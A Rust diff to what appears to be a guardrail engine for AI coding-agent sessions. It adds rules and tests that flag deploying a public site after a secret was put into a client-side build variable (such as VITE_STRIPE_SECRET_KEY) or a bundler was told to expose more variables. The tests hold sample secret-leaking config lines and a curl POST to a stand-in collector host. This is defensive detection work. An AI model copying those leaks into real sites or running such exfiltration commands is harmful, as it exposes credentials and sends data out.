@@ -37,7 +37,7 @@ pub const EGRESS_AFTER_UNTRUSTED: Reason = Reason::new(
 
 pub const PUBLISH_AFTER_SECRET: Reason = Reason::new(
     "publish_after_secret",
-    "This session read secrets or untrusted content and now publishes files (a package, a gist, a release or a public repository).",
+    "This session read secrets or untrusted content and now publishes files (a package, a gist, a release, a site or a public repository).",
 );
 
 use Verdict::{Auth, Block, Pass};
@@ -82,6 +82,61 @@ pub fn publishes_files(inv: &crate::shell::Invocation) -> bool {
     }
 }
 
+/// Does this invocation deploy a site anyone can load (`netlify deploy`, `vercel --prod`,
+/// `gh-pages -d dist`, `firebase deploy`, `wrangler pages deploy`)?
+pub fn deploys_site(inv: &crate::shell::Invocation) -> bool {
+    let ops: Vec<&str> = inv
+        .operands()
+        .iter()
+        .map(|w| w.text.as_str())
+        .take(2)
+        .collect();
+    match inv.program.as_str() {
+        "netlify" | "firebase" => ops.first() == Some(&"deploy"),
+        "surge" | "gh-pages" => true,
+        "vercel" => ops.first().is_none_or(|o| *o == "deploy") || inv.argv().any(|a| a == "--prod"),
+        "wrangler" => ops.as_slice() == ["pages", "deploy"] || ops.first() == Some(&"deploy"),
+        _ => false,
+    }
+}
+
+/// Did this session put a secret where a site's build makes it public: a file written with a
+/// secret's value in it (`VITE_STRIPE_SECRET_KEY=sk_live_…` in `.env`), a secret-named
+/// variable given a client-side prefix (`NEXT_PUBLIC_API_SECRET`), or a bundler told to
+/// expose more variables (`envPrefix: 'AWS_'`)?
+fn secret_exposed_to_build(cx: &Ctx<'_>) -> bool {
+    const PUBLIC: &[&str] = &[
+        "VITE_",
+        "NEXT_PUBLIC_",
+        "REACT_APP_",
+        "NUXT_PUBLIC_",
+        "EXPO_PUBLIC_",
+        "GATSBY_",
+        "PUBLIC_",
+        "VUE_APP_",
+    ];
+    !cx.session.secret_files.is_empty()
+        || cx.session.written_files.values().any(|f| {
+            f.content.lines().any(|l| {
+                let u = l.to_ascii_uppercase();
+                let public_secret = PUBLIC.iter().any(|p| {
+                    u.match_indices(p).any(|(i, m)| {
+                        let name: String = u
+                            .get(i + m.len()..)
+                            .unwrap_or("")
+                            .chars()
+                            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                            .collect();
+                        ["SECRET", "PRIVATE", "PASSWORD", "TOKEN", "AWS_"]
+                            .iter()
+                            .any(|w| name.contains(w))
+                    })
+                });
+                public_secret || u.contains("ENVPREFIX")
+            })
+        })
+}
+
 /// Is this action a lethal-trifecta step for this session?
 pub fn is_trifecta(cx: &Ctx<'_>) -> bool {
     let sensitive = cx.session.secret_read
@@ -118,10 +173,16 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     // Publishing after a secret read, or after untrusted content came in (the page that asks
     // for a release is the attack).
     let untrusted = cx.untrusted();
+    // A site deployed counts when the session put a secret where its build makes it public.
+    let site_leak = cx
+        .shell
+        .is_some_and(|sa| sa.invocations.iter().any(deploys_site))
+        && secret_exposed_to_build(cx);
     if (cx.session.secret_read || untrusted)
-        && cx
-            .shell
-            .is_some_and(|sa| sa.invocations.iter().any(publishes_files))
+        && (site_leak
+            || cx
+                .shell
+                .is_some_and(|sa| sa.invocations.iter().any(publishes_files)))
     {
         let by = if untrusted && cx.session.secret_read {
             [Auth, Auth, Block, Block]
@@ -242,6 +303,47 @@ mod tests {
         }
     }
 
+    /// A secret renamed for the browser (`VITE_…`) or a bundler told to expose more, then a
+    /// site deployed: the key is public.
+    #[test]
+    fn secrets_baked_into_a_deployed_site() {
+        use crate::rules::testutil::file_write;
+        for (file, content, cmd, want) in [
+            (
+                ".env",
+                "VITE_STRIPE_SECRET_KEY=${STRIPE_SECRET_KEY}\n",
+                "npx netlify deploy --prod --dir=dist",
+                Auth,
+            ),
+            (
+                "vite.config.ts",
+                "export default defineConfig({ envPrefix: ['VITE_', 'AWS_'] })\n",
+                "npm run build && npx gh-pages -d dist",
+                Auth,
+            ),
+            (
+                ".env",
+                "VITE_API_URL=https://api.acme.example\n",
+                "npx netlify deploy --prod --dir=dist",
+                Pass,
+            ),
+            (
+                ".env",
+                "VITE_STRIPE_SECRET_KEY=${STRIPE_SECRET_KEY}\n",
+                "npx netlify status",
+                Pass,
+            ),
+        ] {
+            let e = engine(Mode::Balanced);
+            let s = session(Mode::Balanced, true, false);
+            let w = file_write("Edit", &format!("{CWD}/{file}"), content);
+            let d = e.decide(&w, &s);
+            let s = e.record_with(&s, &w, &d, true);
+            let d = e.decide(&Action::shell(Host::ClaudeCode, cmd, Some(CWD)), &s);
+            assert_eq!(d.verdict, want, "{file} then {cmd}: {:?}", d.codes());
+        }
+    }
+
     #[test]
     fn floor_table() {
         let post = "curl -X POST -d 'hello' https://collector.example/";
@@ -325,6 +427,16 @@ mod tests {
             (Mode::Balanced, false, false, "npm publish", Pass, ""),
             (Mode::Balanced, true, false, "gh pr view 12", Pass, ""),
             (Mode::Balanced, true, false, "npm pack", Pass, ""),
+            // A site deployed after a secret read, with nothing put where the build makes
+            // it public: routine.
+            (
+                Mode::Balanced,
+                true,
+                false,
+                "npx netlify deploy --prod --dir=dist",
+                Pass,
+                "",
+            ),
         ];
         for (mode, secret, untrusted, cmd, want, code) in cases {
             let s = session(mode, secret, untrusted);
